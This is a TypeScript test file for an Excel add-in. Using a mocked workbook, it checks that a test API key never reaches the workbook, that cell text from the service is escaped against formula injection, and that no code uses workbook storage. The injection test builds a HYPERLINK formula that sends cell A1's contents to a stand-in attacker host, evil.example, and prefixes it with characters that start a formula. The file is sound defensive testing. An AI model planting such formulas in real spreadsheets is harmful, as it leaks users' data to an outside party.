/**
 * What the Office side of the taskpane writes into a workbook, with Excel mocked by office-addin-mock (the
 * host boundary): formulas and values into cells and a new sheet's name, from plans built with data the
 * service sent under a secret key. The mocked workbook has no names, settings, custom XML parts or
 * document properties at all, so any attempt to store something there fails the operation; and nothing
 * written holds the key. Together with workbook-key.e2e.test.ts (the taskpane never asks to write it) and
 * the scan below (no code reaches for document storage), the key cannot end up in a workbook.
 */
import { readdirSync, readFileSync, statSync } from "fs";
import { join, relative } from "path";
import { officeWorkbook } from "../../src/excel/office-workbook";
import { comparisonGrid } from "../../src/taskpane/model/comparison-grid";
import { metricLastYearFormula, valueFormula } from "../../src/taskpane/model/insert-actions";
import { statementGrid } from "../../src/functions/statement-grids";
import {
  CHANGES_OPTIONS,
  VALUES_OPTIONS,
  statementSheet,
} from "../../src/taskpane/model/statement-layout";
import { openLab, type Lab } from "../harness/faults/lab";
import { mock, rangeMock, runOn, type Mock } from "../excel/office-mocks";

const SECRET = "sk_live_WorkbookSecret4410";
const ROOT = join(__dirname, "../..");

let lab: Lab;
beforeAll(async () => {
  lab = await openLab({ apiKey: SECRET });
});
afterAll(() => lab.close());

/** A range's data with the formatting members the modules set (as rangeMock, but plain, to nest). */
function rangeData(data: Record<string, unknown>): Record<string, unknown> {
  return {
    numberFormat: [[]],
    format: {
      font: { bold: false, italic: false, size: 11 },
      horizontalAlignment: "General",
      columnWidth: 48,
      autofitColumns() {},
    },
    ...data,
  };
}

/** An Excel with a worksheet collection, an active cell and ranges, and nothing else. */
function excel() {
  const ranges: Mock[] = [];
  const sheetsAdded: string[] = [];
  const made = (): Mock => {
    const range = rangeMock();
    ranges.push(range);
    return range;
  };
  const sheet = mock({
    getRangeByIndexes: made,
    freezePanes: { freezeAt() {}, freezeRows() {}, freezeColumns() {} },
    activate() {},
  });
  const context = mock({
    workbook: {
      active: rangeData({
        address: "Sheet1!B2",
        // The target sits in the context's object tree so that context.sync() loads it, as in Excel.
        target: rangeData({
          address: "Sheet1!B2:D5",
          formulas: Array.from({ length: 8 }, () => Array<string>(8).fill("")),
          getCell() {
            return { getResizedRange: made };
          },
        }),
        getResizedRange(this: { target: unknown }) {
          return this.target;
        },
      }),
      getActiveCell(this: { active: unknown }) {
        return this.active;
      },
      worksheets: {
        add(name: string) {
          sheetsAdded.push(name);
          return sheet;
        },
      },
    },
  });
  const worksheets = (context.workbook as Mock).worksheets as Mock;
  worksheets.items = [{ name: "Sheet1" }];
  worksheets.load = () => worksheets;
  const active = (context.workbook as Mock).active as Mock;
  return { context, ranges: () => [active, active.target as Mock, ...ranges], sheetsAdded };
}

/** Everything the operations left in the mocked workbook: cell contents, formats, sheet names. */
function written(x: ReturnType<typeof excel>): string {
  const props = ["formulas", "formulasR1C1", "values", "numberFormat"];
  return JSON.stringify({
    cells: x.ranges().map((r) => props.map((p) => (r as Record<string, unknown>)[p])),
    sheets: x.sheetsAdded,
  });
}

describe("what the taskpane's Office side writes", () => {
  it("holds no key and goes only into cells and a sheet name, never names, settings or properties", async () => {
    const [values, changes] = await lab.drive(
      Promise.all([
        statementGrid(lab.runtime, "aave", "quarter", "1y", VALUES_OPTIONS),
        statementGrid(lab.runtime, "aave", "quarter", "1y", CHANGES_OPTIONS),
      ])
    );
    const projects = (await lab.drive(lab.runtime.client.listProjects())).data.slice(0, 3);
    const input = {
      projectId: "aave",
      projectName: projects[0].name,
      granularity: "quarter",
      interval: "1y",
      values,
      changes,
      asOf: "2026-11-20 12:00 UTC",
      simulated: true,
    };
    const x = excel();
    const port = officeWorkbook({
      run: runOn(x.context),
      supports: () => true,
      selectionEvents: { add: () => undefined, remove: () => undefined },
    });
    await port.insertFormula(valueFormula("aave", "fees"));
    await port.insertFormula(metricLastYearFormula("aave", "fees"));
    await port.insertGrid(
      comparisonGrid({
        projects: projects.map((p) => ({ id: p.projectId, name: p.name })),
        metrics: [{ id: "fees", name: "Fees" }],
      })
    );
    await port.createSheet(statementSheet({ ...input, mode: "static" }));
    await port.createSheet(statementSheet({ ...input, mode: "live" }));
    const all = written(x);
    expect(all).toContain("CRYPTO.VALUE");
    expect(all).toContain("CRYPTO.STATEMENT");
    expect(x.sheetsAdded).toHaveLength(2);
    expect(all).not.toContain(SECRET);
  });

  it.each(["=", "+", "-", "@", "\t", "\r"])(
    "writes service text starting with %j into the grid and statement sheets as text, numbers as numbers",
    async (lead) => {
      const attack = `${lead}HYPERLINK("http://evil.example/?"&A1,"x")`;
      // The statement's spills (STATEMENT with headers=2, and with values=pop) carrying the attack in every
      // text the service names: the project, the period heading and subheading, the section and the line.
      const values = [
        [attack, null, attack],
        ["Section", "Metric", attack],
        [attack, attack, -5],
      ];
      const changes = [
        ["Section", "Metric", attack],
        [attack, attack, -0.25],
      ];
      const input = {
        projectId: "aave",
        projectName: attack,
        granularity: "quarter",
        interval: "1y",
        values,
        changes,
        asOf: "2026-11-20 12:00 UTC",
        simulated: false,
      };
      const x = excel();
      const port = officeWorkbook({
        run: runOn(x.context),
        supports: () => true,
        selectionEvents: { add: () => undefined, remove: () => undefined },
      });
      await port.insertGrid(
        comparisonGrid({
          projects: [{ id: "aave", name: attack }],
          metrics: [{ id: "fees", name: attack }],
        })
      );
      await port.createSheet(statementSheet({ ...input, mode: "static" }));
      await port.createSheet(statementSheet({ ...input, mode: "live" }));
      const cells = x
        .ranges()
        .flatMap((r) => ["formulas", "formulasR1C1"].map((p) => (r as Record<string, unknown>)[p]))
        .flatMap((grid): unknown[] => (Array.isArray(grid) ? (grid as unknown[][]).flat() : []));
      const carrying = cells.filter((c) => typeof c === "string" && c.includes("evil.example"));
      // The grid's name and header, the statement's title, section, line and period headings.
      expect(carrying.length).toBeGreaterThanOrEqual(5);
      for (const text of carrying) expect(text).toMatch(/^'|^[^=+\-@\t\r]/);
      expect(carrying).toContain(`'${attack}`);
      // The figures the statement fetched: numbers in the cells, the negative ones included.
      expect(cells).toContain(-5);
      expect(cells).toContain(-0.25);
      // What the formulas the add-in writes itself look like: they still start with "=".
      expect(cells.some((c) => typeof c === "string" && c.startsWith("=CRYPTO."))).toBe(true);
    }
  );

  it("comes from code that never reaches for a workbook's own storage", () => {
    const sources = (dir: string): string[] =>
      readdirSync(dir).flatMap((name) => {
        const path = join(dir, name);
        return statSync(path).isDirectory() ? sources(path) : name.endsWith(".ts") ? [path] : [];
      });
    const storage =
      /document\.settings|workbook\.settings|\.names\.add|customXmlParts|\.properties\.(custom|comments|title|subject|keywords)|customProperties|\.setCustomProperty/;
    const hits = sources(join(ROOT, "src"))
      .flatMap((file) =>
        readFileSync(file, "utf8")
          .split("\n")
          .map((line, i) => ({ line, where: `${relative(ROOT, file)}:${i + 1}` }))
      )
      .filter(({ line }) => storage.test(line) && !/^\s*(\*|\/\/)/.test(line))
      .map(({ where, line }) => `${where}: ${line.trim()}`);
    expect(hits).toEqual([]);
  });
});
